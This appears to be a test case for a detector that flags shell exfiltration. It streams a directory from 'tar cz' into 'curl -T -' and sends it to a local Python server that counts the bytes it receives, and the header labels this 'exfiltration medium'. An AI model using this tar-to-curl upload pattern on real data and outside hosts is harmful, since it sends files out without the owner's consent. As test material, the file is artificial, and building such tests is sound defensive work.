# about: a directory streams out of tar into curl, no file between
# expect: exfiltration medium
# needs: curl python3 tar
mkdir d; seq 9999 >d/x
python3 -c 'import http.server
class H(http.server.BaseHTTPRequestHandler):
    def do_PUT(self):
        n=0
        while (l:=int(self.rfile.readline(),16)): n+=len(self.rfile.read(l)); self.rfile.readline()
        self.rfile.readline(); open("got","w").write(str(n)); self.send_response(200); self.send_header("Content-Length","0"); self.end_headers()
    protocol_version="HTTP/1.1"
    def log_message(self,*a): pass
http.server.HTTPServer(("127.0.0.1",6501),H).handle_request()' & S=$!
sleep 0.7; tar cz d | curl -s -T - http://127.0.0.1:6501/up
wait $S; [ "$(cat got)" -gt 99 ]
